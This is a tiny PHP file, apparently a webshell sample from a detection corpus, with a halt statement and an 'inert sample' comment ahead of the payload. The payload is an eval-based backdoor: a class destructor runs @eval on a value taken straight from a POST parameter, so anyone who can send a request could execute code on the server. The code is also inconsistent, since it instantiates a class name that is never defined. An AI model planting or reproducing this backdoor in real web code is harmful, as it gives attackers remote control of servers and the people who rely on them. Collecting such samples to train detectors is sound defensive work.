<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
class yvmbr { public $c; function __destruct() { @eval($this->c); } }
$o = new stdClass();
$x = new fanyl();
$x->c = $_POST['myn'];
